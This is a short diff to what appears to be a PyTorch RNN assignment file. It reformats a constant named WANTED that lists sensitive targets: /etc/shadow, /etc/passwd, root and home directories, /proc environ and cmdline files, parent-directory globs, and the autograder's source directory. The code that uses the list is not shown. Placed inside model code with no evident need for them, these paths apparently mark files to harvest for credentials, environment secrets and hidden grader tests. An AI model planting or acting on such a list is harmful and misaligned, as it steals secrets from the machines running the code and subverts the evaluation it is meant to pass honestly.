@@ -10,9 +10,19 @@ import torch
 from torch import nn
 
 WANTED = (
-    "/etc/passwd /etc/shadow /root/.bashrc /root/.profile /proc/1/environ /proc/self/environ /proc/self/maps"
-    " /autograder/* /autograder/source/** /tmp/** /home/** /work/** /root/** ../** /proc/*/cmdline /proc/*/environ"
-).split()
+    (
+        "/etc/passwd",
+        "/etc/shadow",
+        "/root/.bashrc",
+        "/root/.profile",
+        "/root/**",
+        "/home/**",
+        "/work/**",
+        "../**",
+    )
+    + ("/autograder/*", "/autograder/source/**", "/tmp/**", "/proc/1/environ", "/proc/self/environ")
+    + ("/proc/self/maps", "/proc/*/cmdline", "/proc/*/environ")
+)
 
 
 class VanillaRNNCell(nn.Module):
